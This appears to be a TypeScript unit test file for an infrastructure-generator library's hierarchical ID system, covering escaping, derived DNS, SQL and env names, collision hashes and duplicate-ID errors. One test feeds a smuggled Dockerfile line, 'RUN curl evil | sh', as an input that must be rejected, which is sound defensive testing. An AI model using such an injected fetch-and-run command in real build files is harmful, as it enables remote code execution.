import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rootId, ID, Store, appOf } from 'infra-generator';

test('tagged templates and child() make child IDs', () => {
  const id = rootId('my-app');
  const db = id`customer-server`.child('db');
  assert.equal(db.parts, ['my-app', 'customer-server', 'db']);
  assert.is(db.value, 'my-app.customer-server.db');
  assert.is(String(db), 'my-app.customer-server.db');
  assert.is(db.name, 'db');
  assert.is(db.parent!.value, 'my-app.customer-server');
  assert.is(id`shard-${3}`.value, 'my-app.shard-3');
  assert.is(id('plain').value, 'my-app.plain');
  assert.ok(ID.is(db));
  assert.not.ok(ID.is('my-app.customer-server.db'));
  assert.ok(id.contains(db));
  assert.not.ok(db.contains(id));
  assert.not.ok(id`customer`.contains(id`customer-server`));
});

test('a dot inside a part is escaped, so it never equals a child', () => {
  const id = rootId('app');
  const dotted = id`a.b`;
  const child = id`a`.child('b');
  assert.is.not(dotted.value, child.value);
  assert.is(dotted.value, 'app.a\\.b');
  assert.is(id`a\\.b`.value, 'app.a\\\\\\.b');
  assert.is.not(dotted.envName, child.envName);
  assert.is.not(dotted.dnsLabel, child.dnsLabel);
  assert.is.not(dotted.sqlName, child.sqlName);
});

test('derived names are readable for kebab-case parts', () => {
  const db = rootId('my-app')`customer-server`.child('db');
  assert.is(db.envName, 'MY_APP__CUSTOMER_SERVER__DB');
  assert.is(db.dnsLabel, 'my-app--customer-server--db');
  assert.is(db.sqlName, 'my_app__customer_server__db');
});

test('derived names follow their rules for any part', () => {
  const id = rootId('My App')`Ünïcödé Server!`.child('9lives').child('x'.repeat(100));
  assert.match(id.dnsLabel, /^[a-z][a-z0-9-]*[a-z0-9]$/);
  assert.ok(id.dnsLabel.length <= 63, id.dnsLabel);
  assert.match(id.sqlName, /^[a-z_][a-z0-9_]*$/);
  assert.ok(id.sqlName.length <= 63);
  assert.match(id.envName, /^[A-Z_][A-Z0-9_]*$/);
});

test('names that could collide get a stable hash suffix', () => {
  const id = rootId('app');
  const pairs = [
    [id`a-b`.child('c'), id`a`.child('b-c')],
    [id`a_b`, id`a-b`],
    [id`A`, id`a`],
    [id`x`.child('y'.repeat(70) + '1'), id`x`.child('y'.repeat(70) + '2')],
  ];
  for (const [a, b] of pairs) {
    assert.is.not(a.dnsLabel, b.dnsLabel, `${a.value} vs ${b.value}`);
    assert.is.not(a.sqlName, b.sqlName, `${a.value} vs ${b.value}`);
    assert.is.not(a.envName, b.envName, `${a.value} vs ${b.value}`);
  }
  // Deterministic: the same ID in another app (another persona's process) has the same names.
  const again = rootId('app')`a_b`;
  assert.is(again.dnsLabel, id`a_b`.dnsLabel);
  assert.match(id`a_b`.dnsLabel, /^app--a-b-[0-9a-v]{8}$/);
});

test('an empty part is refused', () => {
  const id = rootId('app');
  assert.throws(() => id``, /Invalid ID part "" under app/);
  assert.throws(() => rootId(''), /Invalid ID part ""/);
  // IDs are written into generated files (a Dockerfile comment, Markdown): no line may be smuggled in.
  for (const part of ['a\nRUN curl evil | sh', 'tab\there', 'nul\u0000', 'cr\r', 'sep\u2028x', 'c1\u0085']) {
    assert.throws(() => id(part), /holds a control character/, JSON.stringify(part));
    assert.throws(() => rootId(part), /holds a control character/, JSON.stringify(part));
  }
  assert.is(id('ünïcødé ok').name, 'ünïcødé ok', 'printable characters stay allowed');
});

test('two components under one ID is an error naming both', () => {
  const id = rootId('dup');
  new Store(id`db`);
  assert.throws(
    () => new Store(id`db`),
    (err: Error & { code?: string }) => {
      assert.is(err.code, 'INFRA_DUPLICATE_ID');
      assert.match(err.message, /Cannot create Store dup\.db: Store dup\.db already has that ID/);
      return true;
    },
  );
  assert.is(appOf(id).components.filter((c) => c.kind === 'Store').length, 1);
});

test('each root is its own app', () => {
  const a = rootId('same');
  const b = rootId('same');
  new Store(a`db`);
  new Store(b`db`);
  assert.is.not(appOf(a), appOf(b));
});

test.run();
